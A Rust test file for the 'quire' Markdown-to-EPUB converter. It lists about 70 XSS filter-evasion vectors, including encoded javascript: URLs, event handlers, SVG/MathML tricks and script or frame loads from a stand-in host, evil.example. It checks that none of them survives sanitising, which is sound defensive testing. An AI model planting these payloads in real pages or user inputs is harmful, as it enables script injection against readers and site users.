//! Filter-evasion vectors, in raw HTML and in Markdown links and images:
//! whatever the input, no script, event handler, script URL, frame, object,
//! form, base or refresh may reach any document of the book.

use std::io::Read;

use quire::{Book, InputFile, Options, convert};

#[path = "common/safety.rs"]
mod safety;
use safety::problems;

/// Each vector is written into a chapter of its own, in raw HTML or in
/// Markdown, exactly as an attacker would try it.
const VECTORS: &[&str] = &[
    // Script elements, plain and disguised.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=https://evil.example/x.js>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1);//<</script>",
    "<script>/*</script><img src=x onerror=alert(1)>*/</script>",
    // Event handlers with odd spacing and case.
    "<img src=x onerror=alert(1)>",
    "<img src=x ONERROR=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=\"alert(1)\"onload=alert(2)>",
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)'>hover</div>",
    "<a href=\"#\" onclick=alert(1)>click</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p style=\"x\" onfocus=alert(1) tabindex=1>focus</p>",
    // javascript: URLs, encoded and mixed-case.
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\" \u{1}javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    // SVG and MathML tricks.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    // Frames, objects, forms, base and refresh.
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<form action=\"https://evil.example\"><input name=q><button>go</button></form>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<link rel=import href=\"https://evil.example/x.html\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width: expression(alert(1))\">x</div>",
    // Broken and nested tags, comments and CDATA.
    "<div><script>alert(1)</div></script>",
    "<!--<script>alert(1)</script>-->",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<a href=\"https://ok.example\"><a href=\"javascript:alert(1)\">nested</a></a>",
    // Markdown links and images.
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:alert(1)>",
    "[x](vbscript:msgbox(1) \"title\")",
    "[x](https://ok.example \"\\\" onclick=\\\"alert(1)\")",
    "![x\" onerror=\"alert(1)](x.png)",
];

fn book_of(vectors: &[&str]) -> Book {
    let files = vectors
        .iter()
        .enumerate()
        .map(|(index, vector)| InputFile {
            path: format!("v{index:03}.md"),
            bytes: format!("# Vector {index}\n\n{vector}\n\nAfter the vector.\n").into_bytes(),
            modified: None,
        })
        .collect();
    Book {
        files,
        chapters: None,
    }
}

#[test]
fn vector_table_is_large_enough() {
    assert!(VECTORS.len() >= 50, "{} vectors", VECTORS.len());
}

#[test]
fn no_vector_survives() {
    let output = convert(&book_of(VECTORS), &Options::default()).expect("the book converts");
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(output.epub)).expect("zip");
    let mut found = Vec::new();
    let mut documents = 0;
    for index in 0..archive.len() {
        let mut file = archive.by_index(index).expect("entry");
        let name = file.name().expect("UTF-8 name").to_string();
        if !name.ends_with(".xhtml") {
            continue;
        }
        documents += 1;
        let mut text = String::new();
        file.read_to_string(&mut text).expect("UTF-8 document");
        found.extend(problems(&name, &text));
        if name.starts_with("EPUB/text/v") {
            assert!(
                text.contains("After the vector."),
                "{name}: the text after the vector was lost"
            );
        }
    }
    assert!(documents >= VECTORS.len(), "{documents} documents");
    assert!(
        found.is_empty(),
        "{} unsafe constructs:\n{}",
        found.len(),
        found.join("\n")
    );
}

#[test]
fn fragment_renderer_is_safe_too() {
    let mut found = Vec::new();
    for (index, vector) in VECTORS.iter().enumerate() {
        let body = quire::render_fragment(vector, true);
        let document = format!(
            "<div xmlns=\"http://www.w3.org/1999/xhtml\" xmlns:epub=\"http://www.idpf.org/2007/ops\">{body}</div>"
        );
        found.extend(problems(&format!("vector {index}"), &document));
    }
    assert!(
        found.is_empty(),
        "{} unsafe constructs:\n{}",
        found.len(),
        found.join("\n")
    );
}
